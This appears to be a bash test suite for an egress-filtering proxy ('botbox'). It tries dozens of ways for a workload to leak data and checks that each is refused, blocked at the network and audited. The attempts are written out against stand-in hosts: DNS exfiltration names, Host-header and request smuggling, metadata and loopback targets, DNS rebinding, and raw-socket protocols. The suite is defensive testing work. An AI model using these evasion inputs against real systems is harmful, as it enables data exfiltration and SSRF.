# shellcheck shell=bash
# The bypass suite, shared by scenarios 35 (sidecar) and 36
# (gateway): a workload running as uid 1000 tries to get a byte to the
# upstream namespace outside the policy, and every attempt must show three
# things at once:
#   - what the client sees (a refusal, a 403, a failed connection...);
#   - nothing arrived: the "up" namespace counts, in an nft counter, every
#     packet that reaches it other than TLS to its upstream server and DNS to
#     its resolver; the upstream server logs every connection it accepts; a
#     listener on the gateway's own loopback catches rebinding;
#   - an audit line of the expected kind was written.
# The suite ends with one line: attempts, leaks, unaudited.
. "$(dirname "$0")/../lib.sh"

ATTEMPTS=0
LEAKS=0
UNAUDITED=0
WRONG=0

# bypass_world sidecar|gateway: the topology, the upstream world, and
# botbox (interception on) in front of it. Sets C (the client's namespace),
# G (botbox's), UP4/UP6, SECRET, CA.
bypass_world() {
    TOPO=$1
    if [ "$TOPO" = sidecar ]; then
        topo_sidecar
        C=app G=app UP4=10.201.1.2 UP6=fd00:201:1::2
    else
        topo_gateway
        C=cli G=gw UP4=10.201.3.2 UP6=fd00:201:3::2
        # Routes to everything behind "up", so that nothing is dropped for
        # want of a route before botbox has judged it.
        in_ns gw ip route add default via $UP4
        in_ns gw ip -6 route add default via $UP6
    fi
    FOREIGN4=10.201.200.53
    FOREIGN6=fd00:201:200::53
    SECRET=sk-bypass-0123456789abcdef
    local names="api.test scoped.test private.test evil.test loop.test meta.test mapped.test rebind.test"
    DEFAULT_SANS="DNS:api.test,DNS:scoped.test,DNS:private.test,DNS:evil.test,DNS:rebind.test"
    DEFAULT_SANS+=",IP:$UP4,IP:$UP6"
    make_certs "$E2E_TMP/certs" default
    addr up lo 169.254.169.254/32

    # ---- the upstream world, all of it listening ----
    bg up rebind $PROBE rebind --bind $UP4:5300 --answers "$UP4,127.0.0.1" \
        --log "$E2E_TMP/rebind.log"
    wait_ready rebind
    dnsmasq_start up $UP4 api.test=$UP4 api.test=$UP6 scoped.test=$UP4 private.test=$UP4 \
        evil.test=$UP4 loop.test=127.0.0.1 meta.test=169.254.169.254 \
        mapped.test=::ffff:127.0.0.1 c2VjcmV0LWtleQ.exfil.test=$UP4 \
        "--server=/rebind.test/$UP4#5300" --cache-size=0
    bg up upstream $PY "$E2E_DIR/tools/upstream.py" --bind $UP4:443 --bind "[$UP6]:443" \
        --certs "$E2E_TMP/certs" --log "$E2E_TMP/upstream.log"
    wait_ready upstream
    touch "$E2E_TMP/upstream.log"
    listen up tcp --bind $UP4:22 --bind "[$UP6]:22" --bind $UP4:8443 --bind "[$UP6]:8443" \
        --bind $UP4:31337 --bind "[$UP6]:31337" --bind $FOREIGN4:853 --bind $FOREIGN4:53 \
        --bind 169.254.169.254:443 --bind $UP4:80
    listen up udp --proto udp --bind $UP4:443 --bind "[$UP6]:443" --bind $UP4:5000 \
        --bind "[$UP6]:5000" --bind $UP4:5001 --bind $FOREIGN4:53 --bind "[$FOREIGN6]:53"
    listen up udplite --proto udplite --bind $UP4:5000 --bind "[$UP6]:5000"
    in_ns up nft -f - <<NFT
table inet watch {
    counter leaks {}
    chain in {
        type filter hook input priority -300;
        iifname lo return
        ip daddr $UP4 tcp dport 443 return
        ip6 daddr $UP6 tcp dport 443 return
        ip daddr $UP4 meta l4proto { tcp, udp } th dport 53 return
        icmpv6 type { nd-neighbor-solicit, nd-neighbor-advert, nd-router-solicit, mld2-listener-report } return
        counter name leaks
    }
}
NFT

    # ---- the gateway's own loopback: where a rebound name would lead ----
    listen "$G" loopback --bind 127.0.0.1:443 --bind "[::1]:443"

    # ---- the workload's side ----
    mkdir -p "/etc/netns/${NS[$C]}"
    echo "nameserver $UP4" >"/etc/netns/${NS[$C]}/resolv.conf"
    hosts "$C" "$UP4 $names api.test.evil.test" "$UP6 v6.api.test"
    # Containers get unprivileged ICMP sockets this way (Docker's default).
    in_ns "$C" sysctl -qw net.ipv4.ping_group_range="0 2147483647"

    # ---- botbox ----
    mkdir -p "$E2E_TMP/secrets"
    printf '%s\n' "$SECRET" >"$E2E_TMP/secrets/api-key"
    touch "$E2E_TMP/audit.jsonl"
    chown -R 1337:1337 "$E2E_TMP/secrets" "$E2E_TMP/audit.jsonl"
    {
        echo "mode: $TOPO"
        [ "$TOPO" = gateway ] && printf 'gateway:\n  client_interfaces: [bbc0]\n'
        cat <<YAML
listen_port: 8080
workers: 1
secrets_dir: $E2E_TMP/secrets
timeouts:
  connect: 2000
  request_header: 3000
  response_header: 2000
upstream:
  ca_file: $E2E_TMP/certs/ca.crt
audit:
  output: $E2E_TMP/audit.jsonl
dns:
  upstream: $UP4
egress_policy:
  rules:
$KEY_RULE
    - { host: scoped.test, action: allow, allow_private: true, methods: [GET], paths: ["/echo"] }
    - { host: private.test, action: allow }
    - { host: loop.test, action: allow, allow_private: true }
    - { host: meta.test, action: allow, allow_private: true }
    - { host: mapped.test, action: allow, allow_private: true }
    - { host: rebind.test, action: allow, allow_private: true }
YAML
    } >"$E2E_TMP/botbox.yaml"
    enable_interception
    chmod a+r "$E2E_TMP/botbox.yaml"
    check "apply the $TOPO ruleset" in_ns "$G" "$BIN" nft apply --config "$E2E_TMP/botbox.yaml"
    serve_start "$G" "$E2E_TMP/botbox.yaml"
}

# ---- the workload's tools (uid 1000, no capabilities) ------------------------

client() { as_uid 1000 "$C" "$@"; }
# code_is CODE URL [curl args]: curl's status is CODE (000: no HTTP answer)
code_is() {
    local got
    got=$(client env CURL_CA_BUNDLE="$CA/ca.crt" curl -sS --max-time 5 -o /dev/null \
        -w '%{http_code}' "${@:2}" 2>/dev/null)
    [ "$got" = "$1" ] || { echo "status $got, want $1"; return 1; }
}
# raw_is CODE HOST PORT FORMAT [ARGS]: a request written by hand (printf
# FORMAT) gets a response whose status is CODE.
raw_is() {
    local want=$1 host=$2 port=$3 out
    shift 3
    # shellcheck disable=SC2059
    out=$(printf "$@" | client $PROBE raw "$host" "$port" --timeout 1)
    head -1 <<<"$out" | grep -q "^HTTP/1.1 $want " || { echo "got: $out"; return 1; }
}
# raw_h2_refused HOST PORT FORMAT: the answer is HTTP/2's empty SETTINGS and
# a GOAWAY for last stream 0 with HTTP_1_1_REQUIRED, and nothing else.
raw_h2_refused() {
    local host=$1 port=$2 out
    shift 2
    # shellcheck disable=SC2059
    out=$(printf "$@" | client $PROBE raw "$host" "$port" --timeout 1 | od -An -tx1 | tr -d ' \n')
    [ "$out" = 000000040000000000000008070000000000000000000000000d ] || { echo "got: $out"; return 1; }
}
# refused CMD...: CMD must fail (the connection, datagram or query got nowhere).
refused() { ! "$@"; }
# nxdomain DIG-ARGS: dig as the workload answers NXDOMAIN.
nxdomain() { client dig +time=2 +tries=1 "$@" | grep -q "status: NXDOMAIN"; }

# ---- the attempt runner -------------------------------------------------------

# What reached "up" or the gateway's loopback outside the policy, in one
# number: the nft counter, connections the upstream server accepted, and
# connections to the loopback listener.
arrivals() {
    local leaks
    leaks=$(in_ns up nft list counter inet watch leaks | awk '$1 == "packets" { print $2 }')
    echo $((leaks + $(grep -c '"event": "accept"' "$E2E_TMP/upstream.log") + $(count loopback)))
}
audit_lines() { grep -cE -- "$1" "$E2E_TMP/audit.jsonl"; }
audit_grew() { [ "$(audit_lines "$1")" -gt "$2" ]; }

# attempt WHAT AUDIT_ERE CMD...: one way out tried. CMD checks what the
# client sees; then nothing may have arrived, and an audit line matching
# AUDIT_ERE must have been added.
attempt() {
    local what=$1 pat=$2 before lines out rc=0 problems=()
    shift 2
    ATTEMPTS=$((ATTEMPTS + 1))
    before=$(arrivals)
    lines=$(audit_lines "$pat")
    out=$("$@" 2>&1) || rc=$?
    if ! wait_for 3 audit_grew "$pat" "$lines"; then
        UNAUDITED=$((UNAUDITED + 1))
        problems+=("no audit line matching $pat")
    fi
    if [ "$(arrivals)" != "$before" ]; then
        LEAKS=$((LEAKS + 1))
        problems+=("LEAK: $(($(arrivals) - before)) arrival(s)")
    fi
    if [ "$rc" -ne 0 ]; then
        WRONG=$((WRONG + 1))
        problems+=("client outcome: $out")
    fi
    local label
    label=$(printf '[%02d] %s' "$ATTEMPTS" "$what")
    if [ ${#problems[@]} -eq 0 ]; then
        pass "$label: refused, nothing arrived, audited"
    else
        fail "$label" "$(printf '%s\n' "${problems[@]}" "$(tail -3 "$E2E_TMP/audit.jsonl")")"
    fi
}

# Audit patterns, as EREs (the writer's field order: ts, event, decision,
# reason, rule, src, dst, then the event's own fields). Values are quoted.
ere() { sed 's/[][\.*^$()+?{}|]/\\&/g' <<<"$1"; }
# flow DST PROTO [ERE]: ERE is matched after the proto.
flow() { echo "\"event\":\"flow\",\"decision\":\"deny\".*\"dst\":\"$(ere "$1")\",\"proto\":\"$2\"${3:+,$3}"; }
# http_deny REASON HOST-AS-JSON [ERE]: ERE is matched after the host.
http_deny() { echo "\"event\":\"http\",\"decision\":\"deny\",\"reason\":\"$1\".*\"host\":$(ere "$2"),${3:+.*$3}"; }
tls_deny() { echo "\"event\":\"tls\",\"decision\":\"deny\",\"reason\":\"$1\".*\"dst\":\"$(ere "$2")\""; }
dns_deny() { echo "\"event\":\"dns\",\"decision\":\"deny\".*\"qname\":\"$1\""; }

bypass_finish() {
    printf '  %s: %d attempts, leaks = %d, unaudited = %d, wrong client outcome = %d\n' \
        "$SCENARIO" "$ATTEMPTS" "$LEAKS" "$UNAUDITED" "$WRONG"
    serve_stop
    finish
}

# dns_refused LABEL DIG-ARGS: a query for LABEL.exfil.test gets NXDOMAIN
# and the real resolver never saw the label.
dns_refused() {
    local label=$1
    shift
    nxdomain "$@" "$label.exfil.test" && ! grep -qi "$label" "$E2E_TMP/dnsmasq.log"
}
# tls_refused HOST PORT: plaintext where a ClientHello belongs gets no answer.
tls_refused() {
    ! printf 'GET / HTTP/1.1\r\nHost: api.test\r\n\r\n' |
        client $PROBE raw "$1" "$2" --timeout 2 | grep -q HTTP
}
# rebound: the workload's own lookup of rebind.test (through botbox's
# forwarder) answers the upstream; botbox's lookup for the request that
# follows answers 127.0.0.1, and the request gets 403.
rebound() {
    local first
    first=$(client dig +short +time=2 +tries=1 rebind.test A)
    [ "$first" = "$UP4" ] || { echo "first lookup: '$first'"; return 1; }
    code_is 403 "http://rebind.test/echo" --resolve "rebind.test:80:$first"
}

# The attempts both topologies share.
bypass_attempts() {
    local u6="[$UP6]"
    # ---- around the proxy: other ports, protocols and families ----
    attempt "direct TCP to port 22, IPv4" "$(flow $UP4:22 tcp)" refused client $PROBE connect $UP4 22 --timeout 1
    attempt "direct TCP to port 22, IPv6" "$(flow "$u6:22" tcp)" refused client $PROBE connect $UP6 22 --timeout 1
    attempt "direct TCP to port 8443, IPv4" "$(flow $UP4:8443 tcp)" refused client $PROBE connect $UP4 8443 --timeout 1
    attempt "direct TCP to port 8443, IPv6" "$(flow "$u6:8443" tcp)" refused client $PROBE connect $UP6 8443 --timeout 1
    attempt "direct TCP to a high port, IPv4" "$(flow $UP4:31337 tcp)" refused client $PROBE connect $UP4 31337 --timeout 1
    attempt "direct TCP to a high port, IPv6" "$(flow "$u6:31337" tcp)" refused client $PROBE connect $UP6 31337 --timeout 1
    attempt "SSH spoken to port 80" "$(http_deny bad_request null)" \
        raw_is 400 $UP4 80 'SSH-2.0-OpenSSH_9.2p1\r\n\r\n'
    attempt "plaintext HTTP to port 443, IPv4" "$(tls_deny not_a_client_hello $UP4:443)" tls_refused $UP4 443
    attempt "HTTPS to an IPv6 literal (no SNI)" "$(tls_deny no_sni "$u6:443")" \
        code_is 000 "https://$u6/"
    attempt "UDP 443 (QUIC), IPv4" "$(flow $UP4:443 udp)" refused client $PROBE udp $UP4 443 --timeout 1
    attempt "UDP 443 (QUIC), IPv6" "$(flow "$u6:443" udp)" refused client $PROBE udp $UP6 443 --timeout 1
    attempt "other UDP, IPv4" "$(flow $UP4:5000 udp)" refused client $PROBE udp $UP4 5000 --timeout 1
    attempt "other UDP, IPv6" "$(flow "$u6:5000" udp)" refused client $PROBE udp $UP6 5000 --timeout 1
    attempt "ICMP echo with a payload, IPv4" "$(flow $UP4 icmp)" refused client $PROBE ping $UP4 --timeout 1
    attempt "ICMPv6 echo with a payload" "$(flow "$u6" icmpv6)" refused client $PROBE ping $UP6 --timeout 1
    attempt "UDP-Lite (IP protocol 136), IPv4" "$(flow $UP4 other '"ipproto":136')" \
        refused client $PROBE udplite $UP4 5000 --timeout 1
    attempt "UDP-Lite (IP protocol 136), IPv6" "$(flow "$u6" other '"ipproto":136')" \
        refused client $PROBE udplite $UP6 5000 --timeout 1
    refute "a raw socket without CAP_NET_RAW: the kernel refuses it" client $PROBE rawudp $UP4 5001
    attempt "a hand-made UDP datagram on a raw socket (uid 1000 with CAP_NET_RAW)" \
        "$(flow $UP4:5001 udp)" ip netns exec "${NS[$C]}" setpriv --reuid=1000 --regid=1000 \
        --clear-groups --inh-caps=-all,+net_raw --ambient-caps=-all,+net_raw $PROBE rawudp $UP4 5001
    attempt "a UDP-Lite header conntrack calls invalid, on a raw socket (uid 1000 with CAP_NET_RAW)" \
        '"event":"flow","decision":"deny","reason":"conntrack_invalid",.*"proto":"other","ipproto":136' ip netns exec "${NS[$C]}" setpriv --reuid=1000 --regid=1000 \
        --clear-groups --inh-caps=-all,+net_raw --ambient-caps=-all,+net_raw $PROBE ipproto $UP4 136
    attempt "IP protocol 253 (experimental) on a raw socket (uid 1000 with CAP_NET_RAW)" \
        "$(flow $UP4 other '"ipproto":253')" ip netns exec "${NS[$C]}" setpriv --reuid=1000 --regid=1000 \
        --clear-groups --inh-caps=-all,+net_raw --ambient-caps=-all,+net_raw $PROBE ipproto $UP4 253

    # ---- DNS ----
    attempt "DNS to a foreign resolver (UDP): an exfiltration name" "$(dns_deny c2vjcmv0mq.exfil.test)" \
        dns_refused c2vjcmv0mq @$FOREIGN4
    attempt "DNS to a foreign resolver over TCP" "$(dns_deny c2vjcmv0mg.exfil.test)" \
        dns_refused c2vjcmv0mg +tcp @$FOREIGN4
    attempt "DNS to a foreign resolver over IPv6" "$(dns_deny c2vjcmv0mw.exfil.test)" \
        dns_refused c2vjcmv0mw @$FOREIGN6
    attempt "DNS straight to botbox's own resolver" "$(dns_deny c2vjcmv0na.exfil.test)" \
        dns_refused c2vjcmv0na @$UP4
    attempt "DNS over TLS (853) to a foreign resolver" "$(flow $FOREIGN4:853 tcp)" \
        refused client $PROBE connect $FOREIGN4 853 --timeout 1

    # ---- the Host header and the request target ----
    attempt "IP-literal URL" "$(http_deny no_rule "\"$UP4\"")" code_is 403 "http://$UP4/"
    attempt "Host: api.test@evil.test" "$(http_deny bad_host null)" \
        raw_is 400 $UP4 80 'GET / HTTP/1.1\r\nHost: api.test@evil.test\r\n\r\n'
    attempt "Host: api.test.evil.test" "$(http_deny no_rule '"api.test.evil.test"')" \
        code_is 403 http://api.test.evil.test/
    attempt "Host with a trailing dot" "$(http_deny no_rule '"evil.test"')" \
        raw_is 403 $UP4 80 'GET /dot HTTP/1.1\r\nHost: evil.test.\r\n\r\n'
    attempt "Host in mixed case" "$(http_deny no_rule '"evil.test"' '"path":"/case"')" \
        raw_is 403 $UP4 80 'GET /case HTTP/1.1\r\nHost: EvIl.TeSt\r\n\r\n'
    attempt "Host with %2e for its dot" "$(http_deny bad_host null)" \
        raw_is 400 $UP4 80 'GET / HTTP/1.1\r\nHost: api%%2etest\r\n\r\n'
    attempt "Host with a tab inside" "$(http_deny bad_host null)" \
        raw_is 400 $UP4 80 'GET / HTTP/1.1\r\nHost: api.test\tevil.test\r\n\r\n'
    attempt "two Host headers" "$(http_deny bad_request null)" \
        raw_is 400 $UP4 80 'GET / HTTP/1.1\r\nHost: api.test\r\nHost: evil.test\r\n\r\n'
    attempt "Host api.test:80 (a port the rule does not list)" "$(http_deny port_not_allowed '"api.test"' '"path":"/p80"')" \
        raw_is 403 $UP4 80 'GET /p80 HTTP/1.1\r\nHost: api.test:80\r\n\r\n'
    attempt "Host api.test:8443 (a port with a listener upstream)" "$(http_deny port_not_allowed '"api.test"' '"path":"/p8443"')" \
        raw_is 403 $UP4 80 'GET /p8443 HTTP/1.1\r\nHost: api.test:8443\r\n\r\n'
    attempt "absolute-form URI to evil.test with Host: api.test" "$(http_deny host_mismatch null)" \
        raw_is 400 $UP4 80 'GET http://evil.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n'
    attempt "absolute-form URI with userinfo" "$(http_deny bad_target null)" \
        raw_is 400 $UP4 80 'GET http://api.test@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n'
    attempt "SNI of an allowed host, Host of a denied one (HTTP/1.1)" "$(http_deny sni_host_mismatch null '"path":"/echo"')" \
        code_is 400 https://api.test/echo -H "Host: evil.test" --http1.1

    # ---- methods, upgrades, interim responses ----
    attempt "CONNECT to a denied host" "$(http_deny connect_not_allowed null '"path":"evil.test:443"')" \
        raw_is 405 $UP4 80 'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n'
    attempt "CONNECT to an allowed host (a tunnel carries anything)" "$(http_deny connect_not_allowed null '"path":"api.test:443"')" \
        raw_is 405 $UP4 80 'CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n'
    attempt "TRACE to the host that gets a key (it would echo it)" "$(http_deny method_not_allowed null '"method":"TRACE"')" \
        raw_is 405 $UP4 80 'TRACE /echo HTTP/1.1\r\nHost: api.test\r\n\r\n'
    attempt "h2c upgrade to a denied host (the offer is ignored, the host still decides)" \
        "$(http_deny no_rule '"evil.test"' '"path":"/h2c"')" \
        raw_is 403 $UP4 80 'GET /h2c HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n'
    attempt "HTTP/2 prior knowledge on port 80 (SETTINGS, GOAWAY HTTP_1_1_REQUIRED)" \
        "$(http_deny http2_prior_knowledge null)" \
        raw_h2_refused $UP4 80 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
    attempt "a method override on a GET-only rule (X-HTTP-Method-Override: DELETE, which frameworks obey)" \
        "$(http_deny method_not_allowed '"scoped.test"' '"method":"GET"')" \
        raw_is 403 $UP4 80 'GET /echo HTTP/1.1\r\nHost: scoped.test\r\nX-HTTP-Method-Override: DELETE\r\n\r\n'
    attempt "... X-Method-Override: put, in lower case" \
        "$(http_deny method_not_allowed '"scoped.test"' '"method":"GET"')" \
        raw_is 403 $UP4 80 'GET /echo HTTP/1.1\r\nHost: scoped.test\r\nX-Method-Override: put\r\n\r\n'
    attempt "a path rule's prefix, then ..;/ (Tomcat, Jetty and Spring read /echo/..;/admin as /admin)" \
        "$(http_deny ambiguous_path '"scoped.test"')" \
        raw_is 403 $UP4 80 'GET /echo/..;/admin HTTP/1.1\r\nHost: scoped.test\r\n\r\n'
    attempt "WebSocket upgrade to a denied host" "$(http_deny no_rule '"evil.test"' '"path":"/ws"')" \
        raw_is 403 $UP4 80 'GET /ws HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n'
    attempt "Expect: 100-continue to a denied host, body sent anyway" "$(http_deny no_rule '"evil.test"' '"method":"POST"')" \
        raw_is 403 $UP4 80 'POST /upload HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 6\r\nExpect: 100-continue\r\n\r\nsecret'
    attempt "Expect: 100-continue with a request for api.test hidden in the body" \
        "$(http_deny method_not_allowed '"scoped.test"' '"method":"POST"')" \
        raw_is 403 $UP4 80 'POST /echo HTTP/1.1\r\nHost: scoped.test\r\nExpect: 100-continue\r\nContent-Length: 35\r\n\r\nGET /echo HTTP/1.1\r\nHost: api.test\r\n\r\n'

    # ---- names the resolver maps where they must not lead ----
    attempt "a name without allow_private that resolves to 10.x" "$(http_deny destination_not_allowed '"private.test"')" \
        code_is 403 http://private.test/
    attempt "a name that resolves to 127.0.0.1" "$(http_deny destination_not_allowed '"loop.test"')" \
        code_is 403 http://loop.test/
    attempt "a name that resolves to 169.254.169.254 (cloud metadata)" "$(http_deny destination_not_allowed '"meta.test"')" \
        code_is 403 http://meta.test/latest/meta-data/
    attempt "a name that resolves to ::ffff:127.0.0.1" "$(http_deny destination_not_allowed '"mapped.test"')" \
        code_is 403 https://mapped.test/
    attempt "DNS rebinding: the upstream at the client's lookup, 127.0.0.1 at botbox's" \
        "$(http_deny destination_not_allowed '"rebind.test"')" rebound
}
